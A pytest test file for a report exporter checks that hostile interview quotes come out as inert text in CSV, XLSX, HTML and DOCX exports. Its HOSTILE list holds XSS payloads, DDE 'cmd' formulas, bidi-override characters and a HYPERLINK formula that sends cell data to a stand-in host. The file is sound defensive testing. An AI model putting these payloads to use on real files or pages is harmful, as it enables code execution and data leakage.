"""A transcript built to do harm goes through every export: all of its text arrives, none of it does anything."""

from __future__ import annotations

import csv
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import docx
import pandas as pd
import pytest
from browser import Watched, chromium
from office import converted, words_of
from python_calamine import CalamineWorkbook
from small_analysis import CODEBOOK, Said, make_analysis

from textmine.records import Analysis
from textmine.report import write

LONG = "Brakuje ludzi, " * 667
HOSTILE = [
    "<script>document.title='zly'</script> Brakuje ludzi.",
    "</script></style></textarea><img src=x onerror=\"document.title='zly'\">",
    "<a href=\"javascript:document.title='zly'\">kliknij</a> &lt;b&gt; &amp;",
    '=HYPERLINK("http://zly.example/?"&A1,"spawacze")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+48 600 100 200",
    "-2+3",
    "\tTabulator na początku",
    "\u202eodwrócone na prawo\u202c i dalej",
    "\u2067izolowane\u2069 i \u200fznak",
    "Niedomknięte \u202e i koniec",
    "{{ 7*7 }} {% for x in y %} ${7*7} <%= 7*7 %>",
    "]]> <!-- --> <?xml version='1.0'?> <!DOCTYPE x>",
    "Zero\u200bszeroki i \ufeffznacznik",
    LONG[:10_000],
]


def seen(text: str) -> str:
    """The text as a page, document or sheet shows it: white space is one."""
    return " ".join(text.split())


@pytest.fixture(scope="module")
def analysis() -> Analysis:
    said = [
        Said(text, ("bariery.kadry", "potrzeby.szkolenia"), speaker=HOSTILE[n % 9], document=f"W{n % 3}.txt")
        for n, text in enumerate(HOSTILE)
    ]
    return make_analysis(said, title=HOSTILE[3], topic=HOSTILE[0], project=HOSTILE[1])


@pytest.fixture(scope="module")
def made(analysis: Analysis, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("hostile")
    forms = ("csv", "parquet", "xlsx", "html", "docx")
    return {form: write(form, analysis, CODEBOOK, folder / f"d.{form}") for form in forms}


@pytest.fixture(scope="module")
def page(made: dict[str, Path]) -> Iterator[Watched]:
    with chromium() as browser:
        watched = Watched(browser, made["html"])
        yield watched
        watched.context.close()


def test_csv_holds_all_and_computes_nothing(made: dict[str, Path]) -> None:
    with made["csv"].open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    quotes = {row["quote"] for row in rows}
    for text in HOSTILE:
        assert text in quotes or f"'{text}" in quotes
    assert not [
        cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    ]


def test_parquet_holds_all_as_it_is(made: dict[str, Path]) -> None:
    assert set(pd.read_parquet(made["parquet"])["quote"]) == set(HOSTILE)


def test_the_workbook_holds_all_and_computes_nothing(made: dict[str, Path]) -> None:
    rows = CalamineWorkbook.from_path(made["xlsx"]).get_sheet_by_name("Dowody").to_python()
    assert {str(row[0]) for row in rows[1:]} == set(HOSTILE)
    with zipfile.ZipFile(made["xlsx"]) as archive:
        sheets = b"".join(archive.read(name) for name in archive.namelist() if "worksheets/" in name)
        assert not [name for name in archive.namelist() if "externalLink" in name or "vba" in name.lower()]
    assert b"<f>" not in sheets and b"<f " not in sheets and b"<hyperlink" not in sheets


def test_libreoffice_opens_the_workbook_and_computes_nothing(made: dict[str, Path], tmp_path: Path) -> None:
    # 44 a comma, 34 quotes, 76 UTF-8, from line 1; as shown, the first sheet.
    table = converted(made["xlsx"], "csv:Text - txt - csv (StarCalc):44,34,76,1", tmp_path)
    with table.open(encoding="utf-8", newline="") as file:
        shown = {row[0] for row in csv.reader(file)}
    for text in HOSTILE[:-1]:
        assert any(seen(text) == seen(cell) for cell in shown), text


def test_the_page_shows_all_and_runs_nothing(page: Watched) -> None:
    shown = page.page.eval_on_selector_all("#codes .words", "found => found.map(e => e.textContent)")
    assert set(shown) == set(HOSTILE)
    assert page.page.title() == f"{HOSTILE[1]} – raport z rozmów"
    assert page.page.locator("h1").inner_text() == HOSTILE[1]
    assert page.page.locator("main img, main a[href^=javascript], main script").count() == 0
    assert page.complaints == [] and len(page.fetched) == 1


def test_a_quote_that_turns_the_writing_ends_where_it_ends(page: Watched) -> None:
    quote = page.page.locator("#codes .quote", has_text="Niedomknięte").first
    words, source = quote.locator(".words"), quote.locator(".source")
    assert words.evaluate("e => getComputedStyle(e).unicodeBidi") == "isolate"
    assert source.evaluate("e => getComputedStyle(e).unicodeBidi") == "isolate"


def test_a_long_sentence_does_not_widen_the_page(page: Watched) -> None:
    assert page.page.evaluate("document.documentElement.scrollWidth") <= 1280


def test_the_document_holds_typical_quotes_as_text(made: dict[str, Path]) -> None:
    document: Any = docx.Document(str(made["docx"]))
    quotes = [p.text.strip("„”") for p in document.paragraphs if p.style.name == "Quote"]
    assert quotes and set(quotes) <= set(HOSTILE)
    with zipfile.ZipFile(made["docx"]) as archive:
        relations = b"".join(archive.read(name) for name in archive.namelist() if name.endswith(".rels"))
    assert b'TargetMode="External"' not in relations


def test_libreoffice_opens_the_document(made: dict[str, Path], tmp_path: Path) -> None:
    whole = " ".join(" ".join(words_of(converted(made["docx"], "pdf", tmp_path))).split())
    assert "Metoda i ograniczenia" in whole and "onerror=" in whole
